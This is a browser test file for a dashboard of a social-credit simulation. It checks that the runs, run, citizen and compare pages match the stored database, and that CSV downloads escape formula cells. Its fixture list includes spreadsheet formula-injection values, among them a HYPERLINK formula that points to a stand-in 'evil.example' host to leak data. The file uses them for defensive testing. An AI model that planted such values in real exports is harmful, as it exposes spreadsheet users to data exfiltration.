// The dashboard in a real browser (Debian's Chromium through playwright-core): every page opens,
// a run started from the page is followed to completion, a citizen's trail and two runs
// compared are shown, and what the page shows equals what run.duckdb holds; a run started from
// the page can be cancelled; a CSV download never holds a cell a spreadsheet would run as a
// formula. Screenshots of each page go to test-artifacts/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { loadScenario, reportedYear } from "../src/scenario/load.js";
import { simulate } from "../src/model/simulate.js";
import { writeRunFolder } from "../src/io/run-folder.js";
import { queryRows } from "../src/io/duckdb.js";
import { SYNTHETIC_CAPTION, SYNTHETIC_CSV_LINE } from "../src/io/synthetic.js";
import { startServer, type DashboardServer } from "../src/server/server.js";
import { makeScenario } from "./helpers.js";

/** Region names a spreadsheet would run as formulas, were they written as they are. */
const FORMULA_REGIONS = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+1", "-2+3", "@SUM(1)"];

const CHROMIUM = "/usr/bin/chromium";
const STATIC = resolve("dist/web");
const ARTIFACTS = resolve("test-artifacts");
const skip = !existsSync(CHROMIUM)
  ? `${CHROMIUM} is missing: install Debian's chromium (apt-get install chromium) to run the browser tests`
  : !existsSync(join(STATIC, "index.html"))
    ? "dist/web is not built: run npm run build:web"
    : false;

type Browser = import("playwright-core").Browser;
type Page = import("playwright-core").Page;

let tmp: string;
let runs: string;
let srv: DashboardServer;
let browser: Browser;
let page: Page;

const num = (s: string | null) => Number((s ?? "").replace(/[^0-9.-]/g, ""));

before(async () => {
  if (skip) return;
  tmp = mkdtempSync(join(tmpdir(), "credence-dash-"));
  runs = join(tmp, "runs");
  mkdirSync(ARTIFACTS, { recursive: true });
  const result = simulate(reportedYear(loadScenario("scenarios/china-2018.yaml")), { seed: 5, population: 20_000, days: 90 });
  await writeRunFolder(result, join(runs, "china"), { version: "test" });
  const formulas = makeScenario({ population: { size: 2000, regions: FORMULA_REGIONS.map((name) => ({ name, weight: 1, urbanShare: 0.5 })) } });
  await writeRunFolder(simulate(formulas, { seed: 2, days: 20 }), join(runs, "formulas"), { version: "test" });
  srv = await startServer({ runsDir: runs, staticDir: STATIC, scenariosDir: "scenarios", version: "test", port: 0 });
  const { chromium } = await import("playwright-core");
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update", "--disable-sync"],
  });
  const context = await browser.newContext({ viewport: { width: 1400, height: 900 }, acceptDownloads: true });
  page = await context.newPage();
  page.on("pageerror", (e) => {
    throw e;
  });
});

after(async () => {
  await browser?.close();
  await srv?.close();
  if (tmp) rmSync(tmp, { recursive: true, force: true });
});

let startedRun = "";

test("runs page: lists the runs and follows a run started from the page to completion", { skip, timeout: 120_000 }, async () => {
  await page.goto(srv.url);
  await page.locator("#runs tbody tr", { hasText: "china" }).waitFor();
  assert.match((await page.locator("#runs tbody tr", { hasText: "china" }).textContent()) ?? "", /complete/);
  await page.selectOption("select[name=scenario]", "city-pilot");
  await page.fill("input[name=population]", "5000");
  await page.fill("input[name=days]", "60");
  await page.fill("input[name=seed]", "11");
  await page.click("button[type=submit]");
  const progress = page.locator(".progress");
  await progress.waitFor();
  await page.locator('.progress[data-status="complete"]').waitFor({ timeout: 90_000 });
  startedRun = (await page.locator(".progress a").textContent()) ?? "";
  assert.equal(startedRun, "city-pilot-5000x60-s11");
  const manifest = JSON.parse(readFileSync(join(runs, startedRun, "manifest.json"), "utf8"));
  assert.equal(manifest.status, "complete");
  assert.equal(manifest.population, 5000);
  // The list is fetched again once the run is complete (its database is checked first: a moment).
  await page.locator("#runs tbody tr", { hasText: startedRun }).filter({ hasText: "complete" }).waitFor();
  await page.screenshot({ path: join(ARTIFACTS, "runs.png"), fullPage: true });
});

test("runs page: a run started from the page can be cancelled, and leaves no run folder", { skip, timeout: 60_000 }, async () => {
  await page.goto(srv.url);
  await page.selectOption("select[name=scenario]", "city-pilot");
  await page.fill("input[name=population]", "300000");
  await page.fill("input[name=days]", "3650");
  await page.fill("input[name=seed]", "12");
  await page.click("button[type=submit]");
  await page.locator('.progress[data-status="running"]').waitFor();
  await page.click("#cancel-run");
  await page.locator('.progress[data-status="cancelled"]').waitFor({ timeout: 10_000 });
  assert.match((await page.locator(".progress").textContent()) ?? "", /cancelled/);
  assert.deepEqual(readdirSync(runs).filter((f) => f.startsWith("city-pilot-300000x3650")), []);
  assert.equal(await page.locator("button[type=submit]").isEnabled(), true, "a new run can be started");
});

test("a CSV download escapes cells that a spreadsheet would run as formulas", { skip, timeout: 60_000 }, async () => {
  await page.goto(`${srv.url}#/run/formulas/citizen`);
  await page.click('button[data-filter="any"]');
  await page.waitForLoadState("networkidle");
  await page.locator("#citizens tbody tr").first().waitFor();
  const [download] = await Promise.all([page.waitForEvent("download"), page.locator("#citizens button", { hasText: "CSV" }).click()]);
  const lines = readFileSync(await download.path(), "utf8").trim().split("\n");
  // One CSV line into its cells (quoted cells may hold commas and doubled quotes).
  const cells = (line: string) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map((m) => m[1].replace(/^"(.*)"$/s, "$1").replace(/""/g, '"')).slice(0, -1);
  const header = cells(lines.find((l) => l.includes("region")) ?? "");
  const region = header.indexOf("region");
  assert.ok(region >= 0, `a region column: ${header.join(",")}`);
  const rows = lines.slice(lines.indexOf(header.join(",")) + 1).map(cells);
  assert.ok(rows.length > 0);
  for (const row of rows) {
    assert.ok(FORMULA_REGIONS.map((r) => `'${r}`).includes(row[region]), `region cell ${JSON.stringify(row[region])} is not escaped`);
    assert.match(row[0], /^\d+$/, "numbers are written as numbers");
  }
});

test("run page: charts drawn, figures equal the database, downloads work", { skip, timeout: 60_000 }, async () => {
  await page.goto(`${srv.url}#/run/china`);
  await page.locator("[data-chart] svg").first().waitFor();
  await page.locator('[data-chart^="Regions"] svg').first().waitFor();
  await page.locator("#targets tbody tr").first().waitFor();
  const charts = await page.locator("[data-chart]").count();
  assert.ok(charts >= 7, `${charts} charts`);

  const db = join(runs, "china", "run.duckdb");
  const [end] = await queryRows(db, `SELECT on_dishonest_debtors + on_low_score + on_firm_representatives AS listed, wrongful_dishonest_debtors + wrongful_low_score + wrongful_firm_representatives AS wrongful FROM daily ORDER BY day DESC LIMIT 1`);
  assert.equal(num(await page.locator("#kpi-listed").textContent()), end.listed);
  assert.equal(num(await page.locator("#kpi-wrongful").textContent()), end.wrongful);
  const targets = await queryRows(db, `SELECT count(*) AS n FROM targets`);
  assert.equal(await page.locator("#targets tbody tr").count(), targets[0].n);

  const [svgDownload] = await Promise.all([page.waitForEvent("download"), page.locator('[data-chart="People on each list"] button', { hasText: "SVG" }).click()]);
  const svg = readFileSync(await svgDownload.path(), "utf8");
  assert.match(svg, /^<svg[^>]*xmlns="http:\/\/www.w3.org\/2000\/svg"/);
  assert.match(svg, /low-score/);
  assert.ok(svg.includes(SYNTHETIC_CAPTION), "the SVG download says the population is synthetic");
  const [pngDownload] = await Promise.all([page.waitForEvent("download"), page.locator('[data-chart="People on each list"] button', { hasText: "PNG" }).click()]);
  assert.deepEqual([...readFileSync(await pngDownload.path()).subarray(1, 4)], [...Buffer.from("PNG")]);
  const [csvDownload] = await Promise.all([page.waitForEvent("download"), page.locator("#targets button", { hasText: "CSV" }).click()]);
  const csv = readFileSync(await csvDownload.path(), "utf8").trim().split("\n");
  assert.equal(csv[0], SYNTHETIC_CSV_LINE);
  assert.equal(csv[1], "metric,target,simulated,tolerance,pass");
  assert.equal(csv.length - 2, targets[0].n);

  await page.selectOption("#map-metric", "chilling");
  await page.locator('[data-chart="Regions: chilling"] svg').first().waitFor();
  await page.screenshot({ path: join(ARTIFACTS, "run.png"), fullPage: true });
});

test("citizen page: an interesting citizen's trail, as the database has it, and their app", { skip, timeout: 60_000 }, async () => {
  await page.goto(`${srv.url}#/run/china/citizen`);
  await page.click('button[data-filter="stuck"]');
  await page.waitForLoadState("networkidle"); // the list of the filter, not the one before it
  await page.locator("#citizens tbody tr a").first().click();
  await page.locator("#timeline li").first().waitFor();
  // The citizen opened, read from the address (the list may still have been re-rendering when clicked).
  const agent = Number(/citizen\/(\d+)$/.exec(page.url())?.[1]);
  assert.ok(Number.isInteger(agent), `a citizen's page: ${page.url()}`);
  const db = join(runs, "china", "run.duckdb");
  const stuck = await queryRows(db, `SELECT count(*) AS n FROM trail WHERE agent = ? AND event = 'delisted'`, [agent]);
  assert.equal(stuck[0].n, 0, "a citizen who never got off has no delisting");
  const [trail] = await queryRows(db, `SELECT count(*) AS n FROM trail WHERE agent = ?`, [agent]);
  assert.equal(await page.locator("#timeline li").count(), Math.min(1500, Number(trail.n)));
  const [c] = await queryRows(db, `SELECT score FROM citizens WHERE agent = ?`, [agent]);
  assert.equal(num(await page.locator("#final-score").textContent()), Math.round(Number(c.score) * 10) / 10);
  assert.ok(await page.locator("#timeline li.listed").count() >= 1, "the listing is on the timeline");
  // china-2018's rules are secret: the app shows a bare score and no reasons.
  await page.locator("#app-secret").waitFor();
  assert.equal(num(await page.locator("#app-score").textContent()), Math.round(Number(c.score)));
  await page.screenshot({ path: join(ARTIFACTS, "citizen.png"), fullPage: true });

  // city-pilot publishes its rules: the app lists the reasons the system recorded.
  const [pub] = await queryRows(join(runs, startedRun, "run.duckdb"), `SELECT agent, count(*) AS n FROM trail WHERE event = 'points' GROUP BY agent ORDER BY n DESC, agent LIMIT 1`);
  await page.goto(`${srv.url}#/run/${startedRun}/citizen/${pub.agent}`);
  await page.locator("#app-reasons li").first().waitFor();
  assert.equal(await page.locator("#app-reasons li").count(), Math.min(12, Number(pub.n)));
  await page.screenshot({ path: join(ARTIFACTS, "citizen-published.png"), fullPage: true });
});

test("compare page: two runs overlaid, differences equal the manifests", { skip, timeout: 60_000 }, async () => {
  await page.goto(`${srv.url}#/compare/china/${startedRun}`);
  await page.locator("#differences tbody tr").first().waitFor();
  await page.locator("[data-chart] svg").first().waitFor();
  assert.ok((await page.locator("[data-chart]").count()) >= 6);
  const a = JSON.parse(readFileSync(join(runs, "china", "manifest.json"), "utf8")).summary.metrics as Record<string, number>;
  const b = JSON.parse(readFileSync(join(runs, startedRun, "manifest.json"), "utf8")).summary.metrics as Record<string, number>;
  const row = page.locator("#differences tbody tr", { has: page.locator("td:first-child", { hasText: /^chilling$/ }) });
  const cells = await row.locator("td").allTextContents();
  assert.equal(cells[1], `${(a.chilling * 100).toFixed(2)}%`);
  assert.equal(cells[2], `${(b.chilling * 100).toFixed(2)}%`);
  const overlaid = await page.locator('[data-chart="Chilling"] svg text', { hasText: /^[AB] chilling$/ }).count();
  assert.equal(overlaid, 2, "both runs' lines are labelled on one chart");
  await page.mouse.move(0, 0);
  await page.screenshot({ path: join(ARTIFACTS, "compare.png"), fullPage: true });
});
